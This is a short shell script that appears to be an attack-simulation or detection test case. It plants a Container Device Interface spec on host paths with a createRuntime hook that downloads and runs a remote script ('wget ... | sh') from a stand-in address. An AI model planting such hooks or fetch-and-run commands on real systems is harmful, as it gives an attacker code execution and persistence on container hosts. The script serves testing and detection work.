#!/bin/sh
. /opt/case/case.sh

mkdir -p /host/etc/cdi /host/var/run/cdi
printf 'cdiVersion: "0.6.0"\nkind: example.org/net\ndevices:\n- name: all\n  containerEdits:\n    hooks:\n    - {hookName: createRuntime, path: /bin/sh, args: [sh, -c, "wget -qO- http://203.0.113.10/payload.sh | sh"]}\n' >/host/etc/cdi/net.yaml
cp /host/etc/cdi/net.yaml /host/var/run/cdi/net.yaml
test -s /host/etc/cdi/net.yaml
took_place
